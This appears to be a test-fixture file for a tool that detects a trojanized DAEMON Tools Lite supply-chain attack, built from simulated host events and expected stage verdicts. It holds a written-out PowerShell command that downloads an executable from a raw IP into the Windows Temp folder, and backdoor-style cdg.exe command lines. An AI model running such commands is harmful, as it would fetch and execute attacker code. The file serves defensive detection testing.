# Read by tools/pack_stories.py; its words are in tools/pack_stories/tell.py.
TOOL, TEMP = "C:\\Program Files\\DAEMON Tools Lite\\", "C:\\Windows\\Temp\\"
HELPER, BUS, SHELL = TOOL + "DTHelper.exe", TOOL + "DiscSoftBusServiceLite.exe", TOOL + "DTShellHlp.exe"
CMD, POWERSHELL = "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CHROME, CDG = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", TEMP + "cdg.exe"
FALSE, COLLECTOR = "env-check.daemontools.cc", "2d4eb55b01f59c62c6de9aacba9b47267d398fe4"
FETCH = "cmd.exe /c powershell -NoProfile -Command \"$wc=New-Object System.Net.WebClient;$wc.DownloadFile('http://38.180.107.76/0a1b','C:\\Windows\\Temp\\envchk.exe')\""


def tool(day, version="12.5.0.2424"):
    return [installed(f"{day} 09:00", "DAEMON Tools Lite", version), start(f"{day} 09:05", HELPER, version, "DAEMON Tools Lite", "AVB Disc Soft"),
            start(f"{day} 09:06", BUS, version, "DAEMON Tools Lite", "AVB Disc Soft", parent="C:\\Windows\\System32\\services.exe")]


def profiled(day, parent=BUS):
    return [start(f"{day} 10:01", CMD, command=FETCH, parent=parent), start(f"{day} 10:01:05", POWERSHELL, parent=CMD), connect(f"{day} 10:01:10", "38.180.107.76", POWERSHELL),
            write(f"{day} 10:01:12", TEMP + "envchk.exe", POWERSHELL, COLLECTOR), start(f"{day} 10:01:20", TEMP + "envchk.exe", digest=COLLECTOR, parent=CMD)]


TAKEN, UNCALLED = {"installed": YES, "ran": YES}, {"beacon": NO, "command": NO, "collector": NO, "backdoor": NO, "rat": NO}

case("full chain on a few, most only installed", "2026-04-07", "2026-05-05",
     host("LAB-01", *tool("2026-04-10"), ask("2026-04-10 09:10", FALSE, HELPER), *profiled("2026-04-12"), write("2026-04-20 11:00", CDG, POWERSHELL),
          start("2026-04-20 11:00:10", CDG, command="C:\\Windows\\Temp\\cdg.exe schedsvc.dll C:\\Windows\\Temp\\cdg.tmp first_match", parent=CMD),
          want=TAKEN | {"beacon": YES, "command": YES, "collector": YES, "backdoor": YES, "rat": CANNOT}),
     host("LAB-02", *tool("2026-04-14", "12.5.0.2431"), ask("2026-04-14 09:10", FALSE, BUS), *profiled("2026-04-14"),
          want=TAKEN | {"beacon": YES, "command": YES, "collector": YES, "backdoor": CANNOT, "rat": CANNOT}),
     host("LAB-03", *tool("2026-04-16", "12.5.0.2434"), ask("2026-04-16 09:10", FALSE, SHELL), want=TAKEN | {"beacon": YES, "command": NO, "collector": NO, "backdoor": NO, "rat": NO}),
     *[host(f"WS-{n:02}", *tool("2026-04-15"), want=TAKEN | UNCALLED) for n in range(1, 6)],
     host("WS-30", want=None),
     joined=("beacon", ("process", "DTHelper.exe"), ("dns", FALSE)), flagged=3)

case("blind to names, blind to processes, and a command typed wrongly", "2026-04-07", "2026-05-05",
     host("BLIND-01", *tool("2026-04-10"), ask("2026-04-10 09:10", FALSE, HELPER), lost=["dns", "network"], want=TAKEN | {"beacon": CANNOT, "command": NO, "collector": NO}),
     host("BLIND-02", *tool("2026-04-10"), ask("2026-04-10 09:10", FALSE, HELPER), *profiled("2026-04-11"), lost=["process", "module", "file", "network"],
          want={"installed": YES, "ran": YES, "beacon": YES, "command": CANNOT, "collector": CANNOT}),
     host("TYPO-01", *tool("2026-04-10"), ask("2026-04-10 09:10", FALSE, HELPER), *profiled("2026-04-11"),
          start("2026-04-20 11:00:10", CDG, command="C:\\Windows\\Temp\\cdg.exe rypto.dll C:\\Windows\\Temp\\cdg.tmp chiper", parent=CMD),
          want=TAKEN | {"beacon": YES, "command": YES, "collector": YES, "backdoor": YES}))  # it failed, and the machine was chosen

case("clean builds, their own children, other products and the vendor's site are silent", "2026-04-07", "2026-05-20",
     host("CLEAN-01", *tool("2026-05-08", "12.6.0.2445"), start("2026-05-08 09:30", TOOL + "DTAgent.exe", parent=HELPER), ask("2026-05-08 09:31", "www.daemon-tools.cc", HELPER),
          want={"installed": CANNOT, "beacon": NO, "command": NO}),  # a later release does not say what was there before
     host("OLD-01", *tool("2026-04-10", "12.4.0.2235"), start("2026-04-11 10:00", CMD, parent="C:\\Windows\\explorer.exe"), want={"beacon": NO, "command": NO}),
     host("PRO-01", installed("2026-04-10 09:00", "DAEMON Tools Pro", "8.3.1.0811"), ask("2026-04-10 09:10", "www.daemon-tools.cc", CHROME), want=None),
     host("ULTRA-01", installed("2026-04-10 09:00", "DAEMON Tools Ultra", "6.1.0.1753"), want=None),
     host("NAMES-01", ask("2026-04-20 10:00", "lighttools.net", CHROME), ask("2026-04-20 10:01", "siggard.ru", CHROME), start("2026-04-20 10:02", "C:\\Tools\\cdg.exe"),
          write("2026-04-20 10:03", "C:\\Tools\\cdg.exe", CHROME), connect("2026-04-20 10:04", "192.0.2.80", "C:\\Windows\\System32\\conhost.exe"), want=None),
     exit=2)

case("the vendor's number and the range of the CVE record", "2026-04-07", "2026-05-05",
     host("NUMBER-01", installed("2026-04-10 09:00", "DAEMON Tools Lite", "12.5.1"), want={"installed": CANNOT}),
     host("RANGE-01", *tool("2026-04-10", "2.5.0.0"), want={"beacon": NO}),
     exit=2)

case("a neighbour: the name asked on a machine without the product", "2026-04-07", "2026-05-10",
     host("WS-01", *tool("2026-04-14"), want=TAKEN | {"beacon": NO}),
     host("RESPONDER-01", ask("2026-05-06 10:00", FALSE, CHROME), want={"beacon": YES}, neighbour=True))
